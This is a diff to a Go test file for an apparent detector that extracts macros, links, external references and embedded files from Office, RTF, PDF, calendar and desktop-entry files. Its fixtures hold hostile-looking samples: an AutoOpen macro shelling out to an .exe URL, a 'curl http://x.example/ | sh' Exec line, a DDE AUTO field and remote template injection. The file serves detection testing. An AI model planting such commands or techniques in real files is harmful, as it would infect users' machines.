@@ -32,15 +32,15 @@ func wide(s string) string {
 func TestLayer(t *testing.T) {
 	const rels = `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
 		`<Relationship Id="1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://x.example/t.dotm?a=1&amp;b=2" TargetMode="External"/>` +
-		`<Relationship Id="2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/1.png"/></Relationships>`
+		`<Relationship Id="2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/1.png"/><Relationship Id="3" Type="r/hyperlink" Target="https://y.example/" TargetMode="External"/></Relationships>`
 	for _, c := range []struct {
 		op, name, content string
 		want              []string
 	}{
 		{"vba.source", "Module1", "Sub AutoOpen()\r\nShell \"http://x.example/a.exe\"\r\n", []string{"macros: Sub AutoOpen()\r\nShell \"http://x.example/a.exe\"", "links: http://x.example/a.exe"}},
 		{"pdf.actions", "", "URI https://x.example/\n", []string{"actions: URI https://x.example/", "links: https://x.example/"}},
-		{"zip.deflate", "word/_rels/document.xml.rels", rels, []string{"external references: attachedTemplate https://x.example/t.dotm?a=1&b=2"}},
-		{"zip.deflate", "word/_RELS/document.xml.RELS", wide(rels), []string{"external references: attachedTemplate https://x.example/t.dotm?a=1&b=2"}},
+		{"zip.deflate", "word/_rels/document.xml.rels", rels, []string{"external references: attachedTemplate https://x.example/t.dotm?a=1&b=2", "links: https://y.example/"}},
+		{"zip.deflate", "word/_RELS/document.xml.RELS", wide(rels), []string{"external references: attachedTemplate https://x.example/t.dotm?a=1&b=2", "links: https://y.example/"}},
 		{"", "", `<?xml version="1.0"?><pkg:package xmlns:pkg="p"><pkg:part pkg:name="/word/_rels/settings.xml.rels"><pkg:xmlData><Relationships xmlns="r"><Relationship Id="1" Type="r/frame" Target="\\h\s\t.dotm" TargetMode="external"/></Relationships></pkg:xmlData></pkg:part></pkg:package>`, []string{`external references: frame \\h\s\t.dotm`}},
 		{
 			"zip.deflate", "word/document.xml", `<?xml version="1.0"?><w:document xmlns:w="w"><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\x.exe "/k" </w:instrText></w:r><w:fldChar w:fldCharType="end"/><w:fldSimple w:instr=" INCLUDEPICTURE \\h\p.png "/><w:fldSimple w:instr="PAGE"/></w:document>`,
@@ -54,6 +54,7 @@ func TestLayer(t *testing.T) {
 		{"", "", `<?xml version="1.0"?><office:document><ooo:source-code>Sub Main&#10;End Sub</ooo:source-code></office:document>`, []string{"macros: Sub Main\nEnd Sub"}},
 		{"rtf.text", "", "a text\nINCLUDEPICTURE \"x.png\"\n", []string{`external references: INCLUDEPICTURE "x.png"`}},
 		{"zip.deflate", "word/embeddings/oleObject1.bin", "abc", []string{"embedded files: embedded object"}},
+		{"ole1.file", "a.exe", "abc", []string{"embedded files: embedded file"}},
 		{"mime.base64", "report.exe", "abc", []string{"embedded files: attachment"}},
 		{"mime.7bit", "", "see (http://x.example/a_(b)), or ftp://y.example.\nhttp://x.example/a_(b)", []string{"links: http://x.example/a_(b))", "links: ftp://y.example", "links: http://x.example/a_(b)"}},
 		{"", "", "<html><body><script type='a'>alert(1)</script><a href=\"https&#58;//x.example/?a&amp;b\">x</a><a href='javascript:f(&quot;2&quot;)'>", []string{"links: https://x.example/?a&b"}},
@@ -76,7 +77,21 @@ func TestLayer(t *testing.T) {
 			[]string{"actions: URL=file://h.example/s/a.exe", "external references: IconFile=\\\\h.example\\i.ico", "links: file://h.example/s/a.exe"},
 		},
 		{"", "", "[Desktop Entry]\nName=x\nExec=sh -c 'curl http://x.example/ | sh'\nIcon=a\n", []string{"actions: Exec=sh -c 'curl http://x.example/ | sh'", "links: http://x.example/"}},
-		{"", "", "BEGIN:VCALENDAR\r\nATTACH;FMTTYPE=a/b:http://x.exam\r\n ple/a.doc\r\nATTACH;ENCODING=BASE64:QUJD\r\nEND:VCALENDAR\r\n", []string{"external references: ATTACH;FMTTYPE=a/b:http://x.example/a.doc", "links: http://x.exam"}},
+		{"", "", "BEGIN:VCALENDAR\r\nATTACH;FMTTYPE=a/b:http://x.exam\r\n ple/a.doc\r\nATTACH;ENCODING=BASE64:QUJD\r\nEND:VCALENDAR\r\n", []string{"external references: ATTACH;FMTTYPE=a/b:http://x.example/a.doc", "links: http://x.example/a.doc"}},
+		{
+			"mime.7bit", "", "BEGIN:VCALENDAR\r\nX-ALT-DESC;FMTTYPE=text/html:<html><body><a href=\"http://y.exam\r\n ple/\">\r\nATTACH:https://x.example/a.exe\r\nEND:VCALENDAR\r\n",
+			[]string{"external references: ATTACH:https://x.example/a.exe", "links: http://y.example/", "links: https://x.example/a.exe"},
+		},
+		{"", "", "BEGIN:VCARD\r\nVERSION:3.0\r\nURL:https://x.example/\r\nEND:VCARD\r\n", []string{"links: https://x.example/"}},
+		{"", "", "Visithttp://x.example/ svn+http://y.example/ sftp://z.example/ " + wide("wordhttps://w.example/") + "\x00\x00", []string{"links: http://x.example/", "links: svn+http://y.example/", "links: sftp://z.example/", "links: https://w.example/"}},
+		{"", "", "{\\rtf1{\\*\\template http://x.example/t.dotm}{\\*\\template }}", []string{"external references: template http://x.example/t.dotm", "links: http://x.example/t.dotm"}},
+		{"", "", "<html><head><meta http-equiv=Refresh content=\"0; url='https://x.example/'\"><meta name=a content='b=c'>", []string{"actions: refresh https://x.example/", "links: https://x.example/"}},
+		{"mime.8bit", "", "From: a@x.example\r\nTo: b@x.example\r\nSubject: s\r\nMIME-Version: 1.0\r\n\r\na\r\n", []string{"embedded files: attached mail"}},
+		{"zip.deflate", "Invoice.VBS", "MsgBox 1\r\n", []string{"scripts: MsgBox 1"}},
+		{"zip.deflate", "notes.txt", "PowerShell is a shell\r\n", nil},
+		{"", "", "Set x = CreateObject(\"WScript.Shell\")\r\n", []string{"scripts: Set x = CreateObject(\"WScript.Shell\")"}},
+		{"html.script", "", "\n <ooo:libraries xmlns:ooo=\"http://openoffice.org/2004/office\"/>", nil},
+		{"html.script", "", "<ooo:libraries xmlns:ooo=\"a\">x</ooo:libraries>", []string{"scripts: <ooo:libraries xmlns:ooo=\"a\">x</ooo:libraries>"}},
 		{"", "", "<?xml version=\"1.0\"?><a xmlns=\"http://www.w3.org/1999/xhtml\" b=\"smb://h/s\"/>", []string{"links: smb://h/s"}},
 		{"cfb.stream", "WordDocument", "\x01\x02" + wide("HYPERLINK \"http://w.example/ä\"") + "\x00\x00", []string{"links: http://w.example/\xc3\xa4"}},
 		{"zip.deflate", "Basic/Standard/Module1.xml", `<?xml version="1.0"?><script:module xmlns:script="x" script:name="a">Sub Main&#10;  x = &quot;1&quot;
